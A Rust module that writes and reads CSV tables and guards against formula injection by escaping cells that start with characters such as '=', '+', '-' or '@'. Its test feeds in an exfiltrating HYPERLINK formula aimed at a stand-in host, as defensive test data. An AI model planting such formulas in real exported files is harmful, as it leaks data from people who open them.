//! Tables as CSV, RFC 4180: a row of names, commas, CRLF, quotes where a cell needs them.
//!
//! A spreadsheet takes a cell that begins with `=` for a formula, and a formula can send data away.
//! Such a cell gets an apostrophe in front, as OWASP advises ("CSV Injection"), and loses it again
//! when the table is read.

use csv::{ReaderBuilder, Terminator, WriterBuilder};

/// Characters with which a cell may become a formula, those of full width among them.
const FORMULA: [char; 11] =
    ['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// A table that was read: the names of the columns, and the rows, each with the line it begins on,
/// from 1.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Parsed {
    /// The names of the columns.
    pub columns: Vec<String>,
    /// As many cells a row as there are columns.
    pub rows: Vec<(u64, Vec<String>)>,
}

/// Writes a table.
pub fn write<Row>(columns: &[&str], rows: impl Iterator<Item = Row>) -> String
where
    Row: Iterator<Item = String>,
{
    let mut writer = WriterBuilder::new().terminator(Terminator::CRLF).from_writer(Vec::new());
    let fits = "every row has the cells of the columns, and memory takes every byte";
    writer.write_record(columns).expect(fits);
    for row in rows {
        writer.write_record(row.map(guarded)).expect(fits);
    }
    let bytes = writer.into_inner().expect(fits);
    String::from_utf8(bytes).expect("text was written")
}

/// Reads a table with a row of names; a byte order mark before it is passed over.
///
/// # Errors
/// A sentence: a row has more or fewer cells than the first one.
pub fn read(text: &str) -> Result<Parsed, String> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut reader = ReaderBuilder::new().from_reader(text.as_bytes());
    let told = |error: &csv::Error| match error.kind() {
        csv::ErrorKind::UnequalLengths { pos, expected_len, len } => {
            let line = pos.as_ref().map_or(1, csv::Position::line);
            format!("the row on line {line} has {len} cells, and the first row has {expected_len}")
        }
        _ => error.to_string(),
    };
    let columns = reader.headers().map_err(|error| told(&error))?;
    let columns = columns.iter().map(|name| name.trim().to_owned()).collect();
    let mut rows = Vec::new();
    for row in reader.records() {
        let row = row.map_err(|error| told(&error))?;
        let line = row.position().map_or(1, csv::Position::line);
        rows.push((line, row.iter().map(|cell| bare(cell).to_owned()).collect()));
    }
    Ok(Parsed { columns, rows })
}

/// A cell that no spreadsheet takes for a formula. Apostrophes that stand before such a cell
/// already are one more each, so that reading gives back what was written.
fn guarded(cell: String) -> String {
    match cell.trim_start_matches('\'').starts_with(FORMULA) {
        true => format!("'{cell}"),
        false => cell,
    }
}

/// The cell without its guard.
fn bare(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.trim_start_matches('\'').starts_with(FORMULA) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_begins_a_formula_and_reading_gives_back_what_was_written() {
        let cells = [
            "=HYPERLINK(\"http://e.org?\"&A1)",
            "+1",
            "-2+3",
            "@sum",
            "\tx",
            "\r\nx",
            "＝x",
            "'=x",
            "''-",
            "'quoted'",
            "a, \"b\"\nc",
            "",
            "- [x] a",
        ];
        let rows = cells.iter().map(|cell| ["id", cell].into_iter().map(str::to_owned));
        let text = write(&["id", "cell"], rows);
        assert!(text.starts_with("id,cell\r\nid,\"'=HYPERLINK(\"\"http://e.org?\"\"&A1)\"\r\n"));
        let mut plain = csv::Reader::from_reader(text.as_bytes());
        for row in plain.records() {
            let cell = row.expect("a row")[1].to_owned();
            assert!(!cell.starts_with(FORMULA), "{cell}");
        }
        let read = read(&text).expect("what was written can be read");
        let back: Vec<&str> = read.rows.iter().map(|(_, row)| row[1].as_str()).collect();
        assert_eq!(back, cells);
    }

    #[test]
    fn a_row_of_another_length_is_told_with_its_line() {
        let error = read("a,b\n1,\"2\n3\"\n4\n").expect_err("the last row is short");
        assert_eq!(error, "the row on line 4 has 1 cells, and the first row has 2");
        let read = read("\u{feff}a , b\n").expect("a table without rows");
        assert_eq!((read.columns, read.rows), (vec!["a".into(), "b".into()], vec![]));
    }
}
